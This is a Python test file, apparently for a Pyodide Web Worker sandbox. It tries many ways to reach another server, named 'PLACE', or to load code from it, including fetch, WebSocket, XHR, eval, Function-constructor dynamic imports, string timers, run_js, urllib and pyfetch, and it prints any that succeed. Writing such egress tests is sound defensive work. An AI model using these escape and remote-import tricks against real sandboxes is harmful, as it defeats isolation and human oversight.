"""A cell that tries every way out of its Worker, each on its own; PLACE is another server.

What gets out, and what would make code from text, is printed.
"""

import asyncio
import contextlib

import js

NAMES = """
fetch XMLHttpRequest WebSocket WebSocketStream EventSource WebTransport Worker SharedWorker
ServiceWorker importScripts BroadcastChannel indexedDB caches Cache CacheStorage Request Response
navigator RTCPeerConnection FontFace fonts Notification cookieStore eval self location registration
Blob File FileReader ShadowRealm scheduler trustedTypes
"""


def attempt(name, way):
    try:
        found = way()
    except BaseException:
        return
    print("OUT", name, found)


def named(name):
    attempt(name, lambda: getattr(js, name))
    attempt(name, lambda: getattr(js.globalThis, name))
    attempt(name, lambda: getattr(js.Object.getPrototypeOf(js.globalThis), name))


for one in NAMES.split():
    named(one)

attempt("fetch it", lambda: js.fetch("PLACEfetch"))
attempt("socket", lambda: js.WebSocket.new("PLACEsocket".replace("http", "ws")))
attempt("request", lambda: js.XMLHttpRequest.new().open("GET", "PLACExhr", False))
attempt("eval", lambda: js.eval("import('PLACEeval')"))
attempt("Function", lambda: js.Function.new("return import('PLACEfunction')")())
attempt("Function called", lambda: js.Function("return import('PLACEfunction')")())
for made in (js.Object, js.Array.prototype.map, js.setTimeout, js.postMessage, js.performance.now):

    def maker(made=made):
        return made.constructor("return import('PLACEmade')")()

    def constructed(made=made):
        return js.Reflect.construct(made.constructor, ["return import('PLACEmade')"])()

    attempt("constructor", maker)
    attempt("constructed", constructed)
attempt("text timer", lambda: js.setTimeout("import('PLACEtimer')", 0))
attempt("other timer", lambda: js.setInterval("import('PLACEtimer')", 0))


def by_run_js():
    from pyodide.code import run_js

    return run_js("import('PLACErun_js')")


def by_open_url():
    from pyodide.http import open_url

    return open_url("PLACEopen_url").read()


def by_urllib():
    from urllib.request import urlopen

    return urlopen("PLACEurllib", timeout=2).read()


for way in (by_run_js, by_open_url, by_urllib):
    attempt(way.__name__, way)


async def later():
    """What answers only later; an answer is printed."""
    import pyodide_js
    from pyodide.http import pyfetch

    with contextlib.suppress(BaseException):
        print("OUT pyfetch", await pyfetch("PLACEpyfetch"))
    with contextlib.suppress(BaseException):
        await pyodide_js.loadPackage("PLACEa.whl")  # says itself why it can't
    print("all tried")


task = asyncio.ensure_future(later())  # noqa: RUF006
print("tried")
